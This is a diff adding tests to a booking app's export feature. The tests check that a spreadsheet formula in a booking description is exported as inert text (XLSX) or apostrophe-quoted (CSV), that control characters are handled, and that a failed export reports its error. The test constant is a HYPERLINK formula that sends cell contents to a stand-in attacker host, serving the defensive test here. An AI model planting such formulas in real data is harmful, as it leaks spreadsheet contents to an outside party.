@@ -9,6 +9,7 @@ from typing import Any
 import httpx
 from openpyxl import load_workbook
 
+from dispatchhub.bookings.tables import Booking, BookingExport
 from tests.fixtures.app import GraphQLClient, wait_for_outbox
 from tests.fixtures.bookings import Catalog
 from tests.fixtures.users import MakeUser, SignedIn
@@ -183,3 +184,79 @@ async def test_agents_export_to_xlsx_and_links_are_signed(
     values = list(sheet.iter_rows(values_only=True))
     assert len(values) == 3 and values[0][0] == "预约号 Number"
     assert tampered.status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看 details")'
+
+
+async def _formula_booking(gql: GraphQLClient, catalog: Catalog, make_user: MakeUser) -> None:
+    await as_user(gql, await make_user("customer"))
+    await create(gql, booking_input(catalog, description=FORMULA))
+    await as_user(gql, await make_user("dispatcher"))
+
+
+async def test_a_formula_in_a_description_is_text_in_the_xlsx_export(
+    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
+) -> None:
+    await _formula_booking(gql, catalog, make_user)
+
+    export = await _export(gql, "XLSX")
+    download = await client.get(export["url"])
+
+    sheet = load_workbook(io.BytesIO(download.content)).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=4)
+    assert (cell.data_type, cell.value) == ("s", FORMULA)  # the text, never a formula
+
+
+async def test_a_formula_in_a_description_is_quoted_in_the_csv_export(
+    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
+) -> None:
+    await _formula_booking(gql, catalog, make_user)
+
+    export = await _export(gql, "CSV")
+    download = await client.get(export["url"])
+
+    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"))))
+    assert rows[1][3] == "'" + FORMULA
+
+
+async def test_a_control_character_already_stored_does_not_break_the_export(
+    gql: GraphQLClient, client: httpx.AsyncClient, catalog: Catalog, make_user: MakeUser
+) -> None:
+    # given a booking stored before input was checked, with a control character in its
+    # address (XML cannot hold it; PostgreSQL refuses only NUL, SQLite stores even that)
+    await as_user(gql, await make_user("customer"))
+    await create(gql, booking_input(catalog))
+    await Booking.update({Booking.address: "上海市\x01徐汇区"}, force=True)
+    await as_user(gql, await make_user("dispatcher"))
+
+    export = await _export(gql, "XLSX")
+    download = await client.get(export["url"])
+
+    assert export["status"] == "DONE"
+    sheet = load_workbook(io.BytesIO(download.content)).active
+    assert sheet is not None
+    assert sheet.cell(row=2, column=7).value == "上海市\ufffd徐汇区"
+
+
+async def test_an_export_that_cannot_be_written_says_failed_with_the_reason(
+    gql: GraphQLClient, make_user: MakeUser
+) -> None:
+    # given an export whose stored filter no longer reads (a service type id that is not one)
+    dispatcher = await make_user("dispatcher")
+    await as_user(gql, dispatcher)
+    started = await gql.execute(EXPORT, {"input": {"format": "XLSX"}})
+    export_id = started["data"]["bookingsExport"]["export"]["id"]
+    await BookingExport.update(
+        {BookingExport.filter: {"service_type_id": "not-a-uuid"}}, force=True
+    )
+
+    await wait_for_outbox()
+    status = await gql.execute(
+        "query($id: ID!) { bookingExport(id: $id) { status error url } }", {"id": export_id}
+    )
+
+    export = status["data"]["bookingExport"]
+    assert export["status"] == "FAILED" and export["url"] is None
+    assert export["error"].startswith("ValueError:")
